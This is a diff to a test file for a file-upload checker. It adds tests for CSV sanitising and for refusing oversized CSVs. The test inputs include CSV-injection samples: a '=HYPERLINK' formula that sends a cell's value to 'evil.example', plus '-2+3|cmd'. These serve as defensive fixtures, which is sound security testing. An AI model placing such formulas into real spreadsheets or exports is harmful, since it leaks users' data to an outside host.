@@ -71,7 +71,8 @@ test('[EV7] the type of a file is found by its content', async (t) => {
   for (const [name, bytes, type, kept] of rows) {
     const found = await recognise({ name, type: 'text/html', bytes });
     t.match(found, { ok: true, file: { name: kept, type } }, name);
-    if (found.ok) t.same(Buffer.from(found.file.bytes), Buffer.from(bytes), `${name}: its bytes stay`);
+    if (found.ok && type !== 'csv') t.same(Buffer.from(found.file.bytes), Buffer.from(bytes), `${name}: its bytes stay`);
+    if (found.ok && type === 'csv') t.match(new TextDecoder().decode(found.file.bytes), /^\w+,families\r\n(?:Kent|Château),212\r\n$/, name);
   }
 });
 
@@ -100,6 +101,20 @@ test('[EV8] formulas in a CSV become texts; numbers, dashes and phone numbers st
   if (!found.ok) throw new Error(found.wrong);
   const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(found.file.bytes);
   t.equal(text, `\ufeffa,b,c\r\n'=1+1,+44 1622 000000,-5\r\n'@SUM(A1),'-2+3|cmd,-\r\n"-12,5","say ""hi""",–\r\n`);
+});
+
+test('[EV8] a CSV is written anew even where no cell looks like a formula: a program may part its cells elsewhere', async (t) => {
+  const found = await recognise({ name: 'f.csv', type: '', bytes: utf8('a\tb\tc\nx,=HYPERLINK("http://evil.example/"&A1)\ty\tz\n') });
+  if (!found.ok) throw new Error(found.wrong);
+  const text = new TextDecoder().decode(found.file.bytes);
+  t.equal(text, 'a,b,c\r\n"x,=HYPERLINK(""http://evil.example/""&A1)",y,z\r\n');
+});
+
+test('[SE11] a CSV of millions of cells is refused before it is read', async (t) => {
+  const since = performance.now();
+  const found = await recognise({ name: 'f.csv', type: '', bytes: utf8(`a,b\n${','.repeat(10_000_000)}`) });
+  t.notOk(found.ok);
+  t.ok(performance.now() - since < 3_000, 'at once');
 });
 
 /** A server that speaks clamd’s INSTREAM, and finds a virus in files with a word. */
